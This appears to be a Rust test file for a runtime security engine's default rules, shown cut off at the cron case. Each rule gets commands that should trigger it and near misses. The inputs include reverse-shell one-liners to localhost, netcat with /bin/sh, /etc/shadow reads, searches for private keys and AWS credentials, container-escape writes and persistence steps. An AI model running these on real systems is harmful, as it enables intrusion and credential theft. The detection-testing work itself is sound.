//! Each default rule, fired by a real program, with a twin that must not fire it.
//!
//! A row of the table says what does it, where and as whom. Besides, each rule must be the one that
//! is reported in one of its rows: by default only the first rule that matches an event is.

use std::collections::BTreeSet;

use e2e::Environment::{self, Below, Host, HostNetwork, Inside};
use e2e::Identity::{self, Docker, Root, User};
use e2e::{Alert, Case, Engine, SENTINEL, TestProgram, Watch, need_root, with_listener};

const CONTAINER: &[Environment] = &[Inside, Below];
const EVERYBODY: &[Identity] = Identity::ALL;

/// What root does inside a container, unless the row says otherwise.
const fn act(process: &'static str, command: &'static [&'static str]) -> TestProgram {
    e2e::act(process, command).by(&[Root])
}

/// A shell script.
macro_rules! sh {
    ($($line:expr),+) => {
        &["sh", "-c", concat!($($line, "\n",)+ ":")]
    };
}

/// A program of Perl, which must not fail unless the call is an attempt. Single quotes are not for it.
macro_rules! perl {
    ($statement:expr) => {
        &["perl", "-e", $statement]
    };
}

/// Perl under the name of another program.
macro_rules! perl_named {
    ($name:literal, $statement:literal) => {
        sh!(
            concat!("cp /usr/bin/perl %W/", $name),
            concat!("%W/", $name, " -e '", $statement, "' || exit 9")
        )
    };
}

/// What OpenSMTPD has a shell do to deliver a mail, with this at its end.
macro_rules! delivered {
    ($end:literal) => {
        sh!(
            "cp /usr/bin/perl /usr/sbin/smtpd",
            concat!(
                "/usr/sbin/smtpd -e 'system {q(sh)} q(sh), q(-c), q(/usr/libexec/opensmtpd/mail.maildir ",
                $end,
                ")'"
            )
        )
    };
}

/// Opens a file without a name (O_TMPFILE | O_RDWR) in a folder.
macro_rules! nameless {
    ($at:literal, $then:expr) => {
        concat!(
            "my $at = '",
            $at,
            "'; my $fd = syscall(2, $at, 0x410002, 0600); $fd >= 0 or die;",
            $then
        )
    };
}

/// Names a file without a name that `nameless!` has opened.
macro_rules! named {
    ($at:literal, $to:literal) => {
        nameless!(
            $at,
            concat!(
                "my ($from, $to) = (qq(/proc/self/fd/$fd), '",
                $to,
                "');
            syscall(265, -100, $from, -100, $to, 0x400) == 0 or die"
            )
        )
    };
}

/// Writes a file of /etc with vim.
macro_rules! edited {
    ($name:literal) => {
        sh!(concat!(
            "unshare -m sh -c 'mount -t tmpfs none /etc; vim.basic -Nu NONE -n -es -c \"normal ix\" -c \"w! /etc/",
            $name,
            "\" -c q; :'"
        ))
    };
}

macro_rules! cases {
    ($($name:ident => $case:expr;)*) => {
        $(#[test]
        fn $name() {
            const CASE: Case = $case;
            need_root!();
            let file = e2e::default_rules().expect("rules/default.yaml is part of the repository");
            assert!(
                CASE.check(&file),
                "{} is never the first of the rules that match: the others hide it",
                CASE.rule
            );
        })*

        /// The cases of this module.
        pub(crate) const CASES: &[Case] = &[$($case),*];
    };
}

#[path = "default_rules/execution.rs"]
mod execution;
#[path = "default_rules/network.rs"]
mod network;
#[path = "default_rules/rights.rs"]
mod rights;
#[path = "default_rules/secrets.rs"]
mod secrets;
#[path = "default_rules/tracks.rs"]
mod tracks;

#[test]
fn every_default_rule_has_a_case() {
    let file = e2e::default_rules().expect("rules/default.yaml is part of the repository");
    let rules = e2e::stock_rules(&file).into_iter().map(|rule| rule.name);
    let mut cases = BTreeSet::new();
    let modules = [
        CASES,
        execution::CASES,
        network::CASES,
        rights::CASES,
        secrets::CASES,
        tracks::CASES,
    ];
    for case in modules.into_iter().flatten() {
        let name = case.rule;
        assert!(cases.insert(name.to_owned()), "two cases of {name}");
        assert!(!case.fires.is_empty(), "nothing fires {name}");
        assert!(!case.near_misses.is_empty(), "{name} has no near miss");
    }
    assert_eq!(rules.collect::<BTreeSet<_>>(), cases);
}

cases! {
// --- code that nobody installed

fileless_execution => Case {
    rule: "Fileless execution via memfd_create",
    fires: &[act("*", perl!("$^F = 99; my $name = 'name'; my $fd = syscall(319, $name, 0);
            system(\"cat /bin/true >&$fd\"); exec {\"/proc/self/fd/$fd\"} 'payload' or die"))
        .at(CONTAINER).by(&[User])
        .showing(&[("proc.exepath", "*memfd:name*")])],
    near_misses: &[
        act("perl", perl!("my $name = 'name'; syscall(319, $name, 0) >= 0 or die")),
        act("file", sh!("cp /bin/true %W/file; %W/file")),
    ],
};

reverse_shell => Case {
    rule: "Reverse shell",
    fires: &[
        act("bash", with_listener!("127.0.0.1 4444", "exit",
            "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")).at(CONTAINER).by(&[Root, User]),
        // The shell finds the connection there.
        act("sh", with_listener!("127.0.0.1 4444", "exit",
            "socat TCP:127.0.0.1:4444 EXEC:/bin/sh,nofork"))
            .showing(&[("evt.type", "execve"), ("proc.name", "sh")]),
        act("bash", with_listener!("127.0.0.1 4444", "id",
            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; cat <&5 | while read x; do $x >&5 2>&5; done'")),
        act("bash", with_listener!("127.0.0.1 4444", "id",
            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444; while read -u 5 x; do $x >&5 2>&5; done' < /dev/null")),
    ],
    near_misses: &[
        // Scripts that wait for a server.
        act("bash", with_listener!("127.0.0.1 4444", "line",
            "bash -c '(echo > /dev/tcp/127.0.0.1/4444) 2> /dev/null'")),
        act("bash", with_listener!("127.0.0.1 4444", "line",
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; printf x >&3; read x <&3; cat <&3'")),
        act("bash", with_listener!("127.0.0.1 4444", "line",
            "bash -c 'echo > /dev/tcp/127.0.0.1/4444 2>&1' < /dev/null")),
        act("bash", &["bash", "-c", "exec < /etc/hosts > %W/out 2>&1; cat; :"]),
        act("bash", with_listener!("127.0.0.1 4444", "line",
            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444 && read -r -u 5 line'")),
    ],
};

execution_from_shared_memory => Case {
    rule: "Execution from /dev/shm",
    fires: &[
        act("payload", sh!("cp /bin/true /dev/shm/payload; /dev/shm/payload"))
            .at(CONTAINER).by(&[User]).showing(&[("proc.exepath", "/dev/shm/payload")]),
        act("sh", sh!("echo : > /dev/shm/script; sh /dev/shm/script")),
    ],
    near_misses: &[
        act("cat", sh!("cp /bin/true /dev/shm/payload; cat /dev/shm/payload > %W/copy")),
        act("true", sh!("cd /dev/shm; /bin/true")),
    ],
};

drop_and_execute => Case {
    rule: "Drop and execute new binary in container",
    fires: &[act("new", sh!("cp /bin/true %W/new; %W/new")).at(CONTAINER).by(&[User])
        .showing(&[("proc.exepath", "/var/tmp/e2e/new")]),
        // A dropper below a build puts its program in no directory of the project.
        act("new", sh!("cp /bin/bash /dev/shm/make; cp /bin/true /tmp/new; /dev/shm/make -c '/tmp/new; :'")),
        // A shell under the name of a tool is no build, nor are words of its arguments.
        act("new", sh!("ln -s /bin/bash /usr/bin/make; mkdir %W/d; cp /bin/true %W/d/new; make -c '%W/d/new; : -m pip install'"))],
    near_misses: &[
        act("true", &["env", "true"]).at(CONTAINER),
        // What a build made. `make` lies in a volume, so it is no new program itself.
        act("new", sh!("cp /bin/bash /dev/shm/make; mkdir %W/d; cp /bin/true %W/d/new; /dev/shm/make -c 'sh -c \"%W/d/new; :\"; :'")),
        // Not of the image either, but no file of the container: a volume.
        act("new", sh!("cp /bin/true /dev/shm/new; /dev/shm/new")),
    ],
};

new_binary_of_a_build => Case {
    rule: "New binary run by a build in container",
    fires: &[
        act("new", sh!("cp /bin/bash /dev/shm/make; mkdir %W/d; cp /bin/true %W/d/new; /dev/shm/make -c '%W/d/new; :'")),
    ],
    near_misses: &[
        act("new", sh!("mkdir %W/d; cp /bin/true %W/d/new; %W/d/new")),
        act("true", sh!("ln -s /bin/bash /usr/bin/make; make -c 'true; env true'")),
    ],
};

execution_from_temporary_directory => Case {
    rule: "Execution from a temporary directory",
    fires: &[
        act("new", sh!("cp /bin/true /tmp/new; /tmp/new")).by(&[User])
            .showing(&[("proc.exepath", "/tmp/new")]),
        // On the host nothing else is wrong with it. Two shells, because the test may run below a build tool.
        act("new", sh!("cp /bin/true %W/new; sh -c \"%W/new; :\"")).at(&[Host]),
        // A dropper that a build starts: its program is in no directory of the project.
        act("new", sh!("cp /bin/bash %W/make", "cp /bin/true /tmp/new; %W/make -c 'sh -c \"/tmp/new; :\"; :'")),
        act("new", sh!("cp /bin/true %W/new; cp /bin/bash %W/nginx", "%W/nginx -c '%W/new; :'"))
            .at(&[Host]).on_terminal(),
    ],
    near_misses: &[
        act("new", sh!("cp /bin/true /home/new; /home/new")),
        act("new", sh!("cp /bin/true /tmp/new; cp /bin/bash /usr/bin/make", "make -c '/tmp/new; :'")),
        // A test runner, a shell, and a program in a directory of the project.
        act("new", sh!("mkdir -p %W/d; cp /bin/true %W/d/new; ln -s /bin/bash %W/pytest",
            "%W/pytest -c 'sh -c \"%W/d/new; :\"; :'")).at(&[Host]),
        act("new", sh!("cp /bin/true %W/new; %W/new")).at(&[Host]).on_terminal(),
    ],
};

own_program_in_temporary_directory => Case {
    rule: "Own program run from a temporary directory",
    fires: &[act("new", sh!("cp /bin/true %W/new; %W/new")).at(&[Host]).by(&[Root, User]).on_terminal()],
    near_misses: &[
        act("new", sh!("cp /bin/true %W/new; %W/new")).at(&[Host]),
        // Below a server a terminal is no excuse.
        act("new", sh!("cp /bin/true %W/new; ln -s /bin/bash %W/nginx", "%W/nginx -c '%W/new; :'"))
            .at(&[Host]).on_terminal(),
    ],
};

netcat_with_program => Case {
    rule: "Netcat Remote Code Execution in Container",
    fires: &[
        act("nc", &["/opt/busybox/nc", "127.0.0.1", "4445", "-e", "/bin/sh"]).at(CONTAINER)
            .by(&[User]),
        act("ncat", &["ncat", "--sh-exec", "sh", "127.0.0.1", "4446"]),
        act("socat", &["socat", "TCP:127.0.0.1:4447", "EXEC:sh"]),
    ],
    near_misses: &[
        act("nc", &["nc", "-z", "-w1", "-C", "127.0.0.1", "4445"]),
        act("ncat", &["ncat", "--send-only", "127.0.0.1", "4446"]),
        act("socat", &["socat", "TCP:127.0.0.1:4447", "STDOUT"]),
        act("ncat", &["ncat", "-e", "/bin/sh", "127.0.0.1", "1"]).at(&[HostNetwork]),
    ],
};

redirect_to_network => Case {
    rule: "Redirect STDOUT/STDIN to Network Connection in Container",
    fires: &[act("nc", with_listener!("127.0.0.1 4444", "line",
            "/opt/busybox/nc 127.0.0.1 4444 -e /bin/true")).at(CONTAINER).by(&[User])
        .showing(&[("fd.name", "127.0.0.1:*->127.0.0.1:4444"), ("fd.rport", "4444")])],
    near_misses: &[
        act("nc", with_listener!("127.0.0.1 4444", "line", "nc -N 127.0.0.1 4444 < /dev/null")),
        act("bash", with_listener!("127.0.0.1 4444", "line",
            "bash -c 'exec 5<>/dev/tcp/127.0.0.1/4444 6>&5 < /etc/hosts'")),
    ],
};

// --- shells and people where none belong

run_shell_below_server => Case {
    rule: "Run shell untrusted",
    fires: &[
        act("sh", perl_named!("nginx", "system {q(sh)} q(sh), q(-c), q(id)")).at(CONTAINER)
            .by(&[User]).showing(&[("proc.pname", "nginx"), ("proc.cmdline", "sh -c id")]),
        // What follows the delivery came from outside.
        act("sh", delivered!("x; id")).showing(&[("proc.pname", "smtpd")]),
        // Not its child, but below it.
        act("sh", perl_named!("postgres", "system {q(env)} qw(env sh -c id)"))
            .showing(&[("proc.pname", "postgres")]),
    ],
    near_misses: &[
        act("id", perl_named!("nginx", "system {q(id)} q(id)")),
        act("sh", perl_named!("nginx", "system {q(sh)} q(sh), q(-c), q(whoami)")),
        act("sh", delivered!("x")),
        act("sh", perl_named!("editor", "system {q(sh)} q(sh), q(-c), q(id)")),
    ],
};

system_user_interactive => Case {
    rule: "System user interactive",
    fires: &[act("true", sh!("cp /usr/bin/timeout %W/sshd",
            "%W/sshd 10 setpriv --reuid=daemon --regid=daemon --clear-groups true")).at(CONTAINER)
        .showing(&[("user.name", "daemon"), ("proc.pname", "sshd")])],
    near_misses: &[
        act("true", sh!("cp /usr/bin/timeout %W/sshd",
            "%W/sshd 10 setpriv --reuid=1000 --regid=1000 --clear-groups true")),
        act("true", &["timeout", "10", "setpriv", "--reuid=daemon", "--regid=daemon",
            "--clear-groups", "true"]),
    ],
};

terminal_shell => Case {
    rule: "Terminal shell in container",
    fires: &[act("bash", &["bash", "-c", ":"]).on_terminal().by(&[User]).apart_from_logins()],
    near_misses: &[
        act("bash", &["bash", "-c", ":"]),
        act("bash", &["timeout", "--foreground", "9", "bash", "-c", ":"]).on_terminal(),
        act("bash", &["bash", "-c", ":"]).at(&[Host]).on_terminal(),
    ],
};

package_manager => Case {
    rule: "Launch Package Management Process in Container",
    fires: &[act("dpkg", &["/opt/busybox/dpkg", "-l"]).at(CONTAINER).by(&[User]),
        act("pip3", sh!("ln /bin/true /usr/bin/pip3; pip3 install x")),
        // A service that npm started is no installation.
        act("dpkg", sh!("cp /bin/bash %W/npm; %W/npm -c '/opt/busybox/dpkg -l; :' start"))],
    near_misses: &[
        act("apt-file", sh!("ln /bin/true /usr/bin/apt-file; apt-file update")),
        act("apt-get", sh!("cp /bin/true %W/apt-get; %W/apt-get")).at(&[Host]),
    ],
};

debugfs => Case {
    rule: "Debugfs Launched in Privileged Container",
    fires: &[act("debugfs", &["debugfs", "-V"]).known()],
    near_misses: &[
        act("debugfs", &["debugfs", "-V"]).known().by(&[Docker]),
        act("mke2fs", &["mke2fs", "-V"]).known(),
        act("debugfs", &["debugfs", "-V"]).at(&[Host]),
    ],
};

// --- looking for secrets

search_private_keys => Case {
    rule: "Search Private Keys or Passwords",
    fires: &[
        act("grep", &["grep", "-r", "BEGIN OPENSSH PRIVATE KEY", "%W"]).at(&[Host, Below]),
        act("find", &["find", "%W", "-name", "id_ed25519"]).by(&[User]),
    ],
    near_misses: &[
        act("grep", &["grep", "-r", "BEGIN CERTIFICATE", "%W"]),
        act("find", &["find", "%W", "-name", "id_card"]),
    ],
};

aws_credentials => Case {
    rule: "Find AWS Credentials",
    fires: &[
        act("grep", &["grep", "-r", "aws_secret_access_key", "%W"]).at(&[Host, Below]),
        act("find", &["find", "%W", "-path", "*.aws/credentials"]).by(&[User]),
    ],
    near_misses: &[
        act("grep", &["grep", "-r", "aws_region", "%W"]),
        act("find", &["find", "%W", "-path", "*.aws/config"]),
    ],
};

directory_traversal => Case {
    rule: "Directory traversal monitored file read",
    fires: &[
        act("cat", &["cat", "/usr/bin/../../etc/hosts"]).at(&[Host, Below])
            .showing(&[("fd.name", "/etc/hosts"), ("fd.nameraw", "/usr/bin/../../etc/hosts")])
            // What is typed at a shell is left out.
            .apart_from_logins(),
        act("head", &["head", "../../../etc/none"]).by(&[User]).showing(&[("fd.name", "/etc/none")])
            .apart_from_logins(),
        // Libraries that resolve a path safely read the file by another open, whose name does not climb.
        act("python3", &["/usr/bin/python3", "-c", "import os; \
            at = os.open('/usr/bin/../../etc/hosts', os.O_PATH); open('/proc/self/fd/%d' % at)"]).at(&[Host])
            .showing(&[("fd.name", "/etc/hosts"), ("fd.nameraw", "/usr/bin/../../etc/hosts")])
            .apart_from_logins(),
    ],
    near_misses: &[
        act("cat", &["cat", "/usr/../etc/hosts"]),
        act("cat", &["cat", "/usr/bin/../../var/log-archive"]),
    ],
};

read_sensitive_file_after_startup => Case {
    rule: "Read sensitive file trusted after startup",
    fires: &[act("nginx", perl_named!("nginx",
            "sleep 6; open my $f, q(<), q(/etc/shadow) or die"))
        .showing(&[("fd.name", "/etc/shadow")])],
    near_misses: &[
        act("nginx", perl_named!("nginx", "open my $f, q(<), q(/etc/shadow) or die")),
    ],
};

read_sensitive_file => Case {
    rule: "Read sensitive file untrusted",
    fires: &[
        act("cat", &["cat", "/etc/shadow"]).at(CONTAINER).by(&[User])
            .showing(&[("fd.name", "/etc/shadow")]),
        act("bash", &["bash", "-c", "read line < /etc/shadow"]).by(&[Docker]),
        act("tar", sh!("tar cf %W/x.tar /etc/shadow")).at(&[Host]),
        act("tar", sh!("cd /etc; ls > %W/list; tar cTf %W/list %W/x.tar")).at(&[Host]),
        act("borg", sh!("cp /bin/cat %W/borg; %W/borg /etc/shadow")).at(&[Host]),
        act("borg", sh!("ln -s /usr/bin/grep %W/borg; %W/borg -h root: /etc/shadow")).at(&[Host]),
        act("restic", sh!("echo '#!/bin/sh' > %W/restic; echo 'read x < /etc/shadow' >> %W/restic; \
            chmod 755 %W/restic; %W/restic /etc")).at(&[Host]),
        act("tar", sh!("cd /etc; ls > %W/list; tar --files=%W/list -cf %W/x.tar")).at(&[Host]),
        act("rsync", sh!("rsync -rf '+ /sh*' -f '- *' /etc/ %W/x")).at(&[Host]),
        act("rsync", sh!("rsync -a4f'- [!s]*' /etc/ %W/x")).at(&[Host]),
        act("rsync", sh!("rsync -a --exclude='[!s]*' /etc/ %W/x")).at(&[Host]),
    ],
    near_misses: &[
        act("cat", &["cat", "/etc/passwd"]).at(CONTAINER),
        act("sudo", perl_named!("sudo", "open my $f, q(<), q(/etc/shadow) or die")),
        act("nginx", perl_named!("nginx", "open my $f, q(<), q(/etc/shadow) or die")),
        act("sh", sh!("echo >> /etc/shadow")),
        act("tar", sh!("tar cf %W/x.tar /etc")).at(&[Host]),
    ],
};

symlink_to_sensitive_file => Case {
    rule: "Create Symlink Over Sensitive Files",
    fires: &[act("ln", &["ln", "-s", "/etc/shadow", "%W/link"]).at(&[Host, Below]),
        act("ln", &["ln", "-s", "/etc", "%W/link"]).by(&[User])],
    near_misses: &[
        act("ln", &["ln", "-s", "/etc/hosts", "%W/link"]),
        act("ln", &["ln", "-s", "/usr", "%W/link"]),
    ],
};

hardlink_to_sensitive_file => Case {
    rule: "Create Hardlink Over Sensitive Files",
    fires: &[act("ln", &["ln", "/etc/shadow", "%W/link"]).at(CONTAINER).by(&[Root, User])
        .showing(&[("evt.arg.oldpath", "/etc/shadow")])],
    near_misses: &[
        act("ln", &["ln", "/etc/passwd", "%W/link"]),
        act("ln", &["ln", "-s", "/etc/shadow", "%W/link"]),
    ],
};

// --- ways out of a container

release_agent => Case {
    rule: "Detect release_agent File Container Escapes",
    fires: &[act("sh", sh!("echo /cmd > %W/release_agent")).at(CONTAINER)
        .showing(&[("fd.name", "/var/tmp/e2e/release_agent")])],
    near_misses: &[
        act("sh", sh!("echo /cmd > %W/release_agent")).by(&[Docker]),
        act("cat", sh!("echo > %W/agent; cat %W/agent")),
        act("sh", sh!("echo /cmd > %W/release_agent")).at(&[Host]),
    ],
};

kernel_hook => Case {
    rule: "Write to kernel hook",
    // Opened, but nothing is written: the host has this file too.
    fires: &[act("perl", perl!("open my $f, '+<', '/proc/sys/kernel/core_pattern' or die"))
            .at(CONTAINER).by(&[Root]).showing(&[("fd.name", "/proc/sys/kernel/core_pattern")]),
        act("sh", sh!("echo /cmd > %W/uevent_helper")).by(&[User]),
        // A name is no excuse.
        act("sysctl", perl_named!("sysctl", "open my $f, q(+<), q(/proc/sys/kernel/core_pattern) or die"))],
    near_misses: &[
        act("cat", &["cat", "/proc/sys/kernel/core_pattern"]),
        act("perl", perl!("open my $f, '+<', '/proc/self/coredump_filter' or die")),
    ],
};

mount_in_container => Case {
    rule: "Mount in container",
    fires: &[
        act("busybox", &["busybox", "mount", "-t", "tmpfs", "none", "/opt"]),
        // It fails, but was tried.
        act("busybox", sh!("busybox mount -t tmpfs none /opt")).by(&[User])
            .showing(&[("evt.res", "EPERM")]),
    ],
    near_misses: &[
        act("busybox", sh!("busybox umount /opt")),
        act("perl", perl!("syscall(165, 0, 0, 0, 0, 0)")).at(&[Host]).by(&[User]),
    ],
};

change_namespace => Case {
    rule: "Change thread namespace",
    fires: &[
        act("perl", perl!("syscall(272, 0x10000000)")).at(&[Host, Below]).by(&[User])
            .showing(&[("evt.type", "unshare")]),
        act("perl", perl!("open my $f, '<', '/proc/self/ns/uts' or die;
            syscall(308, fileno($f), 0) == 0 or die")).showing(&[("evt.type", "setns")]),
    ],
    near_misses: &[
        // CLONE_FILES stops sharing descriptors, which is no namespace.
        act("perl", perl!("syscall(272, 0x400) == 0 or die")),
        act("bwrap", perl_named!("bwrap", "syscall(272, 0x04000000) == 0 or die")),
    ],
};

kernel_module_in_container => Case {
    rule: "Linux Kernel Module Injection Detected",
    fires: &[act("insmod", sh!("cp /bin/true %W/junk.ko; insmod %W/junk.ko")).at(CONTAINER)
        .showing(&[("proc.args", "/var/tmp/e2e/junk.ko"), ("evt.res", "E*")])],
    near_misses: &[
        act("insmod", sh!("cp /bin/true %W/junk.ko; insmod %W/junk.ko")).by(&[Docker]),
        act("insmod", sh!("insmod %W/none.ko")),
    ],
};

load_kernel_module => Case {
    rule: "Load kernel module",
    fires: &[act("perl", perl!("syscall(175, 0, 0, 0)")).at(&[Host]).by(&[User])
            .showing(&[("evt.type", "init_module"), ("evt.res", "E*")]),
        act("perl", perl!("syscall(313, 99, 0, 0)")).by(&[Docker])
            .showing(&[("evt.type", "finit_module")])],
    near_misses: &[
        act("perl", perl!("open my $f, '<', '/proc/modules' or die; print <$f>")),
        // delete_module of nothing
        act("perl", perl!("syscall(176, 0, 0)")).by(&[User]),
    ],
};

load_bpf_program => Case {
    rule: "Load BPF program",
    // BPF_PROG_LOAD of nothing, which fails
    fires: &[act("perl", perl!("syscall(321, 5, 0, 0)")).at(&[Host, Below]).by(&[User])
        .showing(&[("evt.res", "E*")])],
    near_misses: &[
        // BPF_MAP_CREATE
        act("perl", perl!("syscall(321, 0, 0, 0)")),
        act("bpftool", perl_named!("bpftool", "syscall(321, 5, 0, 0)")),
    ],
};

// --- other processes

ptrace_attach => Case {
    rule: "PTRACE attached to process",
    fires: &[
        act("strace", sh!("sleep 1 & strace -qq -o %W/out -e trace=none -p $!")).at(&[Host, Below])
            .by(&[User]),
        // PTRACE_POKEDATA at nobody: an attempt.
        act("perl", perl!("syscall(101, 5, $$, 0, 0)")),
    ],
    near_misses: &[
        // PTRACE_TRACEME, PTRACE_CONT
        act("perl", perl!("syscall(101, 0, 0, 0, 0); syscall(101, 7, $$, 0, 0)")),
        act("strace", &["strace", "-V"]),
        // Its own child.
        act("strace", sh!("strace -qq -o %W/out -e trace=none true")),
    ],
};

ptrace_traceme => Case {
    rule: "PTRACE anti-debug attempt",
    fires: &[act("perl", perl!("syscall(101, 0, 0, 0, 0) == 0 or die")).at(&[Host, Below])
        .by(&[User])],
    near_misses: &[
        act("perl", perl!("syscall(101, 7, $$, 0, 0)")),
        act("gdb", sh!("cp /usr/bin/perl /usr/local/bin/gdb; gdb -e 'syscall(101, 0, 0, 0, 0) == 0 or die'")),
    ],
};

write_to_other_memory => Case {
    rule: "Write to memory of another process",
    fires: &[
        act("perl", perl!("my $child = fork // die; if (!$child) { sleep 9; exit }
            open my $f, '+<', \"/proc/$child/mem\" or die; kill 9, $child")).at(CONTAINER)
            .showing(&[("fd.name", "/proc/*/mem")]),
        act("perl", perl!("my $child = fork // die; if (!$child) { sleep 9; exit }
            syscall(311, $child, 0, 0, 0, 0, 0) == 0 or die; kill 9, $child")).by(&[User])
            .showing(&[("evt.type", "process_vm_writev")]),
    ],
    near_misses: &[
        act("perl", perl!("open my $f, '<', \"/proc/$$/mem\" or die;
            syscall(310, $$, 0, 0, 0, 0, 0) == 0 or die")),
        act("perl", perl!("open my $f, '+<', \"/proc/$$/comm\" or die")),
    ],
};

read_memory_of_another_process => Case {
    rule: "Read memory of another process",
    fires: &[
        act("perl", perl!("my ($to, $pid) = (q(x) x 8, getppid); my $pointer = unpack(q(Q), pack(q(P), $to));
            my $vector = pack(q(QQ), $pointer, 8); syscall(310, $pid, $vector, 1, $vector, 1, 0)"))
            .at(CONTAINER).by(&[Root, User]).showing(&[("evt.type", "process_vm_readv")]),
        act("cat", sh!("sleep 5 & cat /proc/$!/mem; kill $!")).showing(&[("fd.name", "/proc/*/mem")]),
    ],
    near_misses: &[
        act("cat", sh!("cat /proc/self/mem; cat /proc/self/maps > %W/x")),
        act("gdb", sh!("cp /bin/cat %W/gdb; sleep 5 & %W/gdb /proc/$!/mem; kill $!")),
    ],
};

userfaultfd => Case {
    rule: "Unprivileged userfaultfd",
    // UFFD_USER_MODE_ONLY: what every user may have
    fires: &[act("perl", perl!("syscall(323, 1) >= 0 or die")).at(&[Host, Below]).by(&[User])],
    near_misses: &[
        act("perl", perl!("syscall(323, 1) >= 0 or die")).by(&[Root]),
        // A flag that does not exist
        act("perl", perl!("syscall(323, 2) < 0 or die")).by(&[User]),
    ],
};

io_uring => Case {
    rule: "Set up io_uring",
    fires: &[act("perl", perl!("syscall(425, 1, 0)")).at(&[Host, Below]).by(&[User])],
    near_misses: &[
        // io_uring_enter of a ring that is none
        act("perl", perl!("syscall(426, 99, 0, 0, 0, 0, 0)")),
        act("fio", perl_named!("fio", "syscall(425, 1, 0)")),
    ],
};

// --- more rights

become_root => Case {
    rule: "Become root without a login program",
    fires: &[
        act("perl", perl!("syscall(105, 0)")).at(CONTAINER).by(&[User])
            .showing(&[("user.uid", "1000"), ("evt.type", "setuid")]),
        act("perl", perl!("syscall(117, 0, 0, 0)")).by(&[User])
            .showing(&[("evt.type", "setresuid")]),
    ],
    near_misses: &[
        act("perl", perl!("syscall(105, 1000) == 0 or die")).by(&[User]),
        act("perl", perl!("syscall(105, 0) == 0 or die")).at(CONTAINER).by(&[Root, Docker]),
        act("sudo", perl_named!("sudo", "syscall(105, 0)")).by(&[User]),
    ],
};

raise_capabilities => Case {
    rule: "Raise capabilities without root",
    fires: &[act("perl", &["setpriv", "--reuid=1000", "--clear-groups", "--inh-caps=-all,+sys_admin",
            "--ambient-caps=-all,+sys_admin", "perl", "-e",
            "my $head = pack 'L2', 0x20080522, 0; my $sets = pack 'L6', (1 << 21) x 2, (0) x 4;
            syscall(126, $head, $sets) == 0 or die"])
        .showing(&[("user.name", "app"), ("thread.cap_permitted", "CAP_SYS_ADMIN")])],
    near_misses: &[
        // Not as good as root
        act("perl", &["setpriv", "--reuid=1000", "--clear-groups", "--inh-caps=-all,+sys_time",
            "--ambient-caps=-all,+sys_time", "perl", "-e",
            "my $head = pack 'L2', 0x20080522, 0; my $sets = pack 'L6', (1 << 25) x 2, (0) x 4;
            syscall(126, $head, $sets) == 0 or die"]),
        // Gives up what it has
        act("perl", &["setpriv", "--reuid=1000", "--clear-groups", "--inh-caps=-all,+sys_admin",
            "--ambient-caps=-all,+sys_admin", "perl", "-e",
            "my $head = pack 'L2', 0x20080522, 0; my $sets = pack 'L6', (0) x 6;
            syscall(126, $head, $sets) == 0 or die"]),
    ],
};

set_user_id_bit => Case {
    rule: "Set Setuid or Setgid bit",
    fires: &[act("chmod", sh!("cp /bin/true %W/x; chmod u+s %W/x")).at(&[Host, Below]).by(&[User]),
        act("rsync", sh!("ln -s /usr/bin/chmod %W/rsync; : > %W/x; %W/rsync u+s %W/x")).at(&[Host])],
    near_misses: &[
        act("chmod", sh!("cp /bin/true %W/x; chmod u+x %W/x")),
        act("chmod", sh!("mkdir %W/d; chmod 1777 %W/d")),
        act("rsync", sh!("rsync -a /var/local %W/e")).at(&[Host]),
    ],
};

file_capabilities => Case {
    rule: "Give capabilities to a file",
    fires: &[
        // VFS_CAP_REVISION_2 with the effective bit, and CAP_SETUID.
        act("perl", sh!("cp /bin/true %W/x", concat!("perl -e 'my ($at, $name) = (q(%W/x), q(security.capability));",
            "my $value = pack(q(V5), 0x02000001, 1 << 7, 0, 0, 0); syscall(188, $at, $name, $value, 20, 0)'")))
            .at(CONTAINER).by(&[Root, User]).showing(&[("evt.arg.path", "/var/tmp/e2e/x")]),
    ],
    near_misses: &[
        act("perl", sh!("cp /bin/true %W/x", concat!("perl -e 'my ($at, $name, $value) = (q(%W/x), q(user.capability), q(a));",
            "syscall(188, $at, $name, $value, 1, 0)'"))),
        act("dpkg", sh!("cp /usr/bin/perl %W/dpkg; cp /bin/true %W/x",
            "%W/dpkg -e 'my ($at, $name) = (q(%W/x), q(security.capability)); syscall(188, $at, $name, 0, 0, 0)'")),
    ],
};

// --- staying, and covering tracks

preload_library => Case {
    rule: "Preload library for all programs",
    fires: &[
        act("sh", sh!(": > /etc/ld.so.preload")).at(CONTAINER)
            .showing(&[("evt.type", "openat")]),
        act("mv", sh!(": > %W/x; mv %W/x /etc/ld.so.preload")).by(&[Docker])
            .showing(&[("evt.type", "rename*")]),
        act("ln", sh!("cd /etc; ln -s %W/x ld.so.preload")).showing(&[("evt.type", "symlink*")]),
    ],
    near_misses: &[
        act("sh", sh!(": > /etc/ld.so.conf")),
        act("cat", sh!("cat /etc/ld.so.preload")),
    ],
};

authorized_keys => Case {
    rule: "Adding ssh keys to authorized_keys",
    fires: &[
        act("sh", sh!("mkdir %W/.ssh; echo key >> %W/.ssh/authorized_keys")).at(&[Host, Below])
            .by(&[User]),
        act("mv", sh!("mkdir %W/.ssh; echo key > %W/x; mv %W/x %W/.ssh/authorized_keys"))
            .showing(&[("evt.arg.newpath", "/var/tmp/e2e/.ssh/authorized_keys")]),
        act("ln", sh!("mkdir %W/.ssh; ln -s %W/x %W/.ssh/authorized_keys"))
            .showing(&[("evt.arg.linkpath", "/var/tmp/e2e/.ssh/authorized_keys")]),
    ],
    near_misses: &[
        act("sh", sh!("mkdir %W/.ssh; echo key >> %W/.ssh/known_hosts")),
        act("cat", sh!("cat %W/authorized_keys")),
    ],
};

schedule_cron_jobs => Case {
    rule: "Schedule Cron Jobs",
    fires: &[
        act("sh", sh!("mkdir /etc/cron.d; echo > /etc/cron.d/x")).at(CONTAINER)
            .showing(&[("fd.name", "/etc/cron.d/x")]),
        act("mv", sh!("mkdir -p /var/spool/cron; echo > %W/x; mv %W/x /var/spool/cron/root"))
            .showing(&[("evt.arg.newpath", "/var/spool/cron/root")]),
        act("ln", sh!("mkdir -p /etc/cron.d; ln -s %W/x /etc/cron.d/y"))
            .showing(&[("evt.arg.linkpath", "/etc/cron.d/y")]),
        act("crontab", sh!("cp /bin/true %W/crontab; %W/crontab table")).by(&[User]),
    ],
    near_misses: &[
